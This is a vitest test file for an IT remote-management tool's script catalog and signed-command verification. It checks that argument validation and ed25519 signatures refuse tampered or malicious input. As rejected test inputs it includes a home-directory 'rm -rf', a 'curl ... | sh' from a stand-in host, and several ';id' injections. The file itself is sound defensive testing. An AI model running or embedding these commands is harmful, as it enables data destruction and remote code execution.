import { generateKeyPairSync, randomBytes, randomUUID, sign, verify } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { commandActionDefinition, parseActionParams } from './catalog';
import {
  commandSigningMessage,
  signCommand,
  verifyCommand,
  type CommandEnvelope,
  type CommandSigner,
  type SignatureVerifier,
} from './command-signing';
import { checkScriptArgs, isScriptActionName } from './script-info';
import { scriptDefinitionSchema, type SignedScript } from './scripts';

/*
 * IT scripts in the catalog and in signed commands: a script command's parameters carry the script
 * (checked like any catalog parameters, its slug bound to the action name) and the values, checked
 * against its declarations; a tampered body fails the signature; what a signature covers is still held
 * to the strict schemas (a forged-but-signed service name that is an option is refused).
 */

const keys = generateKeyPairSync('ed25519', {
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
const signer: CommandSigner = { sign: (m, pem) => sign(null, Buffer.from(m, 'utf8'), pem).toString('base64') };
const verifier: SignatureVerifier = {
  verify: (m, sig, pem) => verify(null, Buffer.from(m, 'utf8'), pem, Buffer.from(sig, 'base64')),
};
const NOW = Date.parse('2026-12-04T10:00:00.000Z');

const script: SignedScript = {
  slug: 'map-drive',
  title: 'Map the team drive',
  description: 'Maps the team share as a drive.',
  risk: 'changes',
  timeoutSeconds: 120,
  platform: 'linux',
  shell: 'bash',
  body: 'gio mount "smb://files/$1"\n',
  parameters: [{ name: 'share', type: 'string', required: true, maxLength: 32 }],
};

const envelope = (action: string, params: Record<string, unknown>): CommandEnvelope => ({
  id: randomUUID(),
  deviceId: 'device-1',
  action,
  params,
  issuedAt: new Date(NOW).toISOString(),
  expiresAt: new Date(NOW + 60_000).toISOString(),
  nonce: randomBytes(24).toString('base64url'),
  requestedBy: { id: 2, name: 'Tess' },
  ticketId: 1,
});

const check = (signed: unknown) =>
  verifyCommand(signed, {
    publicKeyPem: keys.publicKey,
    deviceId: 'device-1',
    now: NOW,
    verifier,
    seenNonce: () => false,
  });

/** Signs an envelope without signCommand's checks: what a server that signs anything would send. */
const forge = (e: CommandEnvelope) => ({
  envelope: e,
  signature: signer.sign(commandSigningMessage(e)!, keys.privateKey),
});

describe('IT scripts in the catalog', () => {
  it('parses a script command, its entry built from the script it carries', () => {
    const params = { script, args: { share: 'finance; rm -rf ~' } };
    expect(parseActionParams('script.map-drive', params)).toEqual({
      ok: true,
      value: { name: 'script.map-drive', params },
    });
    expect(commandActionDefinition('script.map-drive', params)).toMatchObject({
      title: 'Map the team drive',
      risk: 'changes',
      consent: 'policy',
      timeoutMs: 120_000,
      platforms: ['linux'],
    });
    expect(commandActionDefinition('script.other', params)).toBeUndefined();
    expect(isScriptActionName('script.map-drive')).toBe(true);
    for (const name of ['script.', 'script.Map', 'script.-x', 'script.a/b', 'scripts.x'])
      expect(isScriptActionName(name), name).toBe(false);
  });

  it.each([
    [
      'another script’s slug',
      { script: { ...script, slug: 'other' }, args: { share: 'a' } },
      /^script\.slug: must be the slug/,
    ],
    ['PowerShell for Linux', { script: { ...script, shell: 'powershell' }, args: { share: 'a' } }, /^script\.shell: /],
    ['a missing value', { script, args: {} }, /share: is required/],
    ['a value too long', { script, args: { share: 'a'.repeat(33) } }, /share: must be at most 32/],
    ['a NUL in a value', { script, args: { share: 'a\u0000' } }, /share: must not contain NUL/],
    [
      'a body with a bidi override',
      { script: { ...script, body: 'echo \u2066x\u2069' }, args: { share: 'a' } },
      /^script\.body: /,
    ],
    [
      'a body with an escape character',
      { script: { ...script, body: 'echo \u001b[2J' }, args: { share: 'a' } },
      /^script\.body: /,
    ],
    ['an extra key', { script, args: { share: 'a' }, shell: 'sh -c id' }, /shell: is not a parameter/],
  ])('refuses %s', (_name, params, message) => {
    const parsed = parseActionParams('script.map-drive', params);
    expect(parsed).toMatchObject({ ok: false, error: { code: 'bad-params' } });
    if (!parsed.ok) expect(parsed.error.message).toMatch(message);
  });

  it('checks values against their declarations, the same on every side', () => {
    const params = [
      { name: 'n', type: 'number' as const, required: true },
      { name: 'b', type: 'boolean' as const, required: false },
      { name: 's', type: 'string' as const, required: false, pattern: '[a-z]+' },
    ];
    expect(checkScriptArgs(params, { n: 1.5, b: false, s: 'abc' })).toBeNull();
    expect(checkScriptArgs(params, { n: '1' })).toBe('n: must be a number');
    expect(checkScriptArgs(params, { n: 1, s: 'abc\nid' })).toBe('s: must match the pattern [a-z]+');
    // The pattern matches the whole value: a prefix is not enough.
    expect(checkScriptArgs(params, { n: 1, s: 'abc;id' })).toBe('s: must match the pattern [a-z]+');
    expect(checkScriptArgs(params, { n: 1, s: '-x' }, 'win32')).toMatch(/must not start with "-" for a PowerShell/);
    expect(checkScriptArgs(params, { n: 1, s: 'x' }, 'win32')).toBeNull();
  });

  it('validates what an admin saves', () => {
    const base = { title: 'T', description: 'D', risk: 'reads', bodies: { darwin: { shell: 'zsh', body: 'echo' } } };
    expect(scriptDefinitionSchema.parse(base)).toMatchObject({ timeoutSeconds: 300, parameters: [] });
    expect(
      scriptDefinitionSchema.safeParse({ ...base, bodies: { darwin: { shell: 'bash', body: 'x' } } }).success,
    ).toBe(false);
    expect(scriptDefinitionSchema.safeParse({ ...base, timeoutSeconds: 3601 }).success).toBe(false);
    expect(
      scriptDefinitionSchema.safeParse({ ...base, parameters: [{ name: 'flag', type: 'boolean', pattern: 'x' }] })
        .success,
    ).toBe(false);
  });
});

describe('IT scripts and allow-list names in signed commands', () => {
  it('verifies a signed script command; a tampered body, value or shell is refused by the signature', () => {
    const signed = signCommand(
      envelope('script.map-drive', { script, args: { share: 'finance' } }),
      keys.privateKey,
      signer,
    );
    expect(check(signed)).toMatchObject({ ok: true, value: { action: { name: 'script.map-drive' } } });
    const tamper = (params: Record<string, unknown>) => ({ ...signed, envelope: { ...signed.envelope, params } });
    for (const params of [
      { script: { ...script, body: 'curl https://evil.example | sh\n' }, args: { share: 'finance' } },
      { script, args: { share: 'hr' } },
      { script: { ...script, risk: 'reads' }, args: { share: 'finance' } },
    ])
      expect(check(tamper(params))).toMatchObject({ ok: false, error: { code: 'bad-signature' } });
  });

  it('refuses to sign, and the agent refuses even when signed, names that are not plain names', () => {
    const bad = envelope('service.restart', { service: 'spooler', serviceName: '--now' });
    expect(() => signCommand(bad, keys.privateKey, signer)).toThrow(/serviceName: /);
    expect(check(forge(bad))).toMatchObject({
      ok: false,
      error: { code: 'bad-params', message: expect.stringMatching(/^serviceName: /) },
    });
    const pkg = envelope('package.install', { package: 'x', install: [{ manager: 'apt', id: 'vlc;id' }] });
    expect(check(forge(pkg))).toMatchObject({ ok: false, error: { code: 'bad-params' } });
    const args = envelope('script.map-drive', { script, args: { share: 'x'.repeat(33) } });
    expect(check(forge(args))).toMatchObject({ ok: false, error: { code: 'bad-params' } });
  });
});
